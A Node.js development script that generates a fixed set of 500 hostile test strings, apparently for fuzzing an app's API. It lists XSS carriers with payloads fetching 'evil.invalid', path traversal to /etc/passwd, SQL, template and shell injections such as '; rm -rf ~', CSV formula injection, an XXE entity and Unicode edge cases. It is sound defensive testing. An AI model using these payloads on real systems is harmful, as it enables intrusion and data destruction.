/**
 * Writes `hostile.json`: 500 texts as they could stand in any text of the API, by kind, the same ones
 * at every run: `node dev/make-hostile.mjs`.
 *
 * A script in them calls `ran()`, shows an alert, leaves the page, or asks `evil.invalid` for
 * something; whoever checks listens for all four. Nothing in the file is a raw character outside of
 * ASCII, so that no editor, diff or terminal is led astray by it.
 */
import { writeFileSync } from 'node:fs';

import * as prettier from 'prettier';

const deeds = [
  'ran()',
  'alert(1)',
  "location='//evil.invalid/'",
  "fetch('//evil.invalid/')",
  "document.title='evil'",
];

/** Mulberry32: figures that look random and are the same every time. */
function figures(seed) {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = Math.imul(state ^ (state >>> 15), 1 | state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}
const next = figures(20261124);
const pick = (from) => from[Math.floor(next() * from.length)];
const between = (from, to) => String.fromCodePoint(from + Math.floor(next() * (to - from + 1)));
const times = (n, make) => Array.from({ length: n }, (_, i) => make(i));
const rolled = (n, make) => times(n, make).join('');
const deed = (i) => deeds[i % deeds.length];

const carriers = [
  (js) => `<script>${js}</script>`,
  (js) => `<ScRiPt >${js}</sCrIpT>`,
  (js) => `"><script>${js}</script>`,
  (js) => `'-->]]></style></title></textarea><script>${js}</script>`,
  (js) => `<img src=x onerror=${js}>`,
  (js) => `<img src="x" onerror="${js}" alt="`,
  (js) => `<svg onload=${js}>`,
  (js) => `<svg/onload=${js}//`,
  (js) => `<svg><animate onbegin=${js} attributeName=x dur=1s>`,
  (js) => `<body onload=${js}>`,
  (js) => `<input autofocus onfocus=${js}>`,
  (js) => `<details open ontoggle=${js}>`,
  (js) => `<video><source onerror=${js}></video>`,
  (js) => `<iframe srcdoc="<script>parent.${js}</script>">`,
  (js) => `<iframe src="javascript:${js}">`,
  (js) => `<a href="javascript:${js}">look</a>`,
  (js) => `<math><mtext><table><mglyph><style><img src=x onerror=${js}>`,
  (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  (js) => `<form action="javascript:${js}"><button>Download</button></form>`,
  (js) => `<object data="javascript:${js}">`,
  (js) => `" autofocus onfocus=${js} x="`,
  (js) => `' onmouseover=${js} '`,
  (js) => `\u2028${js}\u2029`,
  (js) => `</script><script>/*${'x'.repeat(40)}*/${js}</script>`,
];

const outside = [
  'javascript:ran()',
  'JaVaScRiPt&#58;ran()',
  'data:text/html,<script>ran()</script>',
  'vbscript:ran()',
  'file:///etc/passwd',
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  'C:\\CON\\AUX\\NUL.mp4',
  '//evil.invalid/x.png',
  'https://evil.invalid/?token=',
  'http://127.0.0.1:1/',
  'tauri://localhost/../index.html',
  'asset://localhost/etc/passwd',
  'thumb://localhost/1',
  'ipc://localhost/quit',
  '<img src=//evil.invalid/x.png>',
  '<link rel=stylesheet href=//evil.invalid/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.invalid/">',
  '<base href=//evil.invalid/>',
  '<style>*{background:url(//evil.invalid/x.png)}</style>',
  'url(//evil.invalid/x.png)',
  '}body{display:none}',
  '--canvas: red; } * { all: unset',
  '@import "//evil.invalid/x.css";',
  '<plaintext>',
];
const templates = [
  '{{7*7}}',
  '${7*7}',
  '#{7*7}',
  '<%= 7*7 %>',
  '{%raw%}{{x}}{%endraw%}',
  "{{constructor.constructor('ran()')()}}",
  '${ran()}',
  '{@html "<img src=x onerror=ran()>"}',
  '{n, plural, one {#} other {#}}',
  '{n, plural,',
  "'{' '}' ''",
  '{account} {token} {n}',
  '%s%s%s%s%n',
  '%d %x %p %999999d',
  '{0} {1} {}',
  '$1 $& $` $$',
  '{prompt}/{date}/{key}',
  '{{{{{{{{{{',
  '}}}}}}}}}}',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '%00%0a%0d',
  '&lt;b&gt;&amp;&#x3c;',
];
const databases = [
  "'; DROP TABLE clips; --",
  "' OR '1'='1",
  '" OR ""="',
  "1'; UPDATE clips SET rating=5; --",
  "') UNION SELECT * FROM sqlite_master --",
  "x' AND 1=(SELECT COUNT(*) FROM clips) --",
  '%',
  '_',
  '%_%\\',
  '*',
  '"*"',
  'NEAR(a b, 2)',
  'a AND OR NOT',
  '(((((',
  '"unclosed',
  "it's",
  'prompt: seed: is:',
  '-"a -b',
  'seed:99999999999999999999999',
  'ratio:0:0',
  'made:9999-99-99',
  ',,,,',
  '..',
  '>=>=',
  '^col:*',
];
const shells = [
  '$(touch /tmp/evil)',
  '`touch /tmp/evil`',
  '; rm -rf ~ #',
  '| cat /etc/passwd',
  '&& shutdown -h now',
  '-rf',
  '--help',
  '> out.txt',
  '~/*',
  "'\"'\"'",
  '%PATH%',
  '$HOME',
  '!!',
  '\\',
  'a\\',
  '/dev/null',
  'CON',
  'nul.mp4',
  'name.',
  ' leading and trailing ',
];
const tables = [
  '{"status":"COMPLETED"}',
  '[1,2,3',
  '{"a":{"a":{"a":{}}}}',
  '","prompt":"',
  '\\u003cscript\\u003e',
  '\\"',
  '\\\\',
  '"',
  '""',
  "'",
  ',',
  ';',
  'a,b;c\td',
  '=1+1',
  "=cmd|'/C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '=HYPERLINK("//evil.invalid/")',
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
  '---\nkey: value',
  '# heading\n* item',
  '[link](javascript:ran())',
  '![](//evil.invalid/x.png)',
  '<!-- -->',
];
const figuresLike = [
  'null',
  'undefined',
  'NaN',
  'Infinity',
  '-Infinity',
  'true',
  'false',
  '0',
  '-0',
  '-1',
  '1e309',
  '0x7fffffff',
  '2147483648',
  '9007199254740993',
  '1,000.00',
  '1.000,00',
  '\u0661\u0662\u0663',
  '\uff11\uff12\uff13',
  '\u00bd \u2153 \u00b2',
  '[object Object]',
  'None',
  'nil',
  'inf',
  '00',
  '08',
  '1/0',
  '',
  ' ',
  '0:05',
  '2026-02-30',
];

const rtl = ['قارب صغير يطفو', 'סירה קטנה צפה', 'قایق کوچک', 'ܐܠܦܐ', 'ދޯނި'];
const bidi = ['\u202e', '\u202d', '\u202b', '\u202a', '\u2066', '\u2067', '\u2068', '\u200f'];
const hidden = [
  '\u200b',
  '\u200c',
  '\u200d',
  '\u2060',
  '\ufeff',
  '\u00ad',
  '\u034f',
  '\u180e',
  '\u115f',
  '\u3164',
  '\u2800',
  '\ufe0f',
  '\u{e0041}',
];
const spaces = ['\u00a0', '\u1680', '\u2003', '\u2009', '\u202f', '\u205f', '\u3000', '\t', '\n'];
const emoji = ['👨‍👩‍👧‍👦', '🏳️‍🌈', '🏴󠁧󠁢󠁳󠁣󠁴󠁿', '👩🏽‍🚀', '👍🏿', '🇩🇪🇯🇵', '1️⃣', '❤️‍🔥', '🧑🏻‍❤️‍💋‍🧑🏿', '☺︎', '🫨', '🪿'];
const world = [
  'สวัสดีชาวโลก',
  'नमस्ते दुनिया',
  'வணக்கம்',
  'မင်္ဂလာပါ',
  'ជំរាបសួរ',
  'བཀྲ་ཤིས་',
  'ሰላም',
  'გამარჯობა',
  'Բարեւ',
  'Ελληνικά',
  'Здравствуй',
  'ᏣᎳᎩ',
  'ᠮᠣᠩᠭᠣᠯ',
  '𐍈𐌰𐌹',
  '𝕱𝖗𝖆𝖐𝖙𝖚𝖗',
  'ﷺ',
  '𒀀𒁀𒂀',
  'Ʇxǝʇ',
  'ｆｕｌｌ　ｗｉｄｔｈ',
  'ﬁﬂﬃ',
];
const cjk = () => rolled(4 + Math.floor(next() * 60), () => between(0x4e00, 0x9fff));
const combined = (most) => (letter) =>
  letter + rolled(1 + Math.floor(next() * most), () => between(0x0300, 0x036f));

const kinds = {
  script: times(100, (i) =>
    carriers[i % carriers.length](deed((i % carriers.length) + Math.floor(i / carriers.length))),
  ),
  outside,
  template: templates,
  database: databases,
  shell: shells,
  table: tables,
  figure: figuresLike,
  'right-to-left': times(40, (i) => {
    const text = rtl[i % rtl.length];
    const turn = bidi[i % bidi.length];
    return [`${text} ${turn}`, `${turn}${text}`, `${turn}evil${i}.mp4`, `a ${text} (b) ${turn}c`][
      i % 4
    ];
  }),
  hidden: times(30, (i) => {
    const mark = hidden[i % hidden.length];
    return [mark, mark.repeat(50), `lan${mark}tern`][i % 3];
  }),
  space: times(18, (i) => {
    const space = spaces[i % spaces.length];
    return i < spaces.length ? space.repeat(20) : `a${space.repeat(30)}b`;
  }),
  combining: times(40, (i) => [...'to invoke the hive'].map(combined(1 + i)).join('')),
  emoji: times(36, (i) => {
    const one = emoji[i % emoji.length];
    return [one, one.repeat(40), `${one} lantern ${rolled(6, () => pick(emoji))}`][
      Math.floor(i / emoji.length)
    ];
  }),
  control: times(33, (i) => {
    const at = i < 32 ? i : 0x7f;
    return `a${String.fromCharCode(at)}b${i % 2 === 0 ? `\u001b[31m${between(0x80, 0x9f)}` : ''}`;
  }),
  cjk: times(13, (i) => (i % 2 === 0 ? cjk() : `${cjk()}。${cjk()}「${cjk()}」`)),
  world: times(20, (i) => (i % 2 === 0 ? world[i] : Array(12).fill(world[i]).join(' '))),
  long: times(20, (i) => {
    const unit = ['x', 'W', 'lantern ', '<b>', '漢', '👩🏽‍🚀', 'ﷺ', 'a\u0301', '\u202e', '-'][i % 10];
    return unit.repeat(Math.ceil((i < 10 ? 600 : 4_000) / unit.length));
  }),
};

const all = Object.entries(kinds).flatMap(([kind, texts]) => texts.map((text) => ({ kind, text })));
const distinct = new Set(all.map(({ text }) => text)).size;
if (all.length !== 500 || distinct !== 500) throw new Error(`${distinct} of ${all.length} texts`);
const json = JSON.stringify(all).replace(
  /[^\x20-\x7e]/g,
  (unit) => `\\u${unit.charCodeAt(0).toString(16).padStart(4, '0')}`,
);
const pretty = await prettier.format(json, { parser: 'json', printWidth: 100 });
writeFileSync(new URL('hostile.json', import.meta.url), pretty);
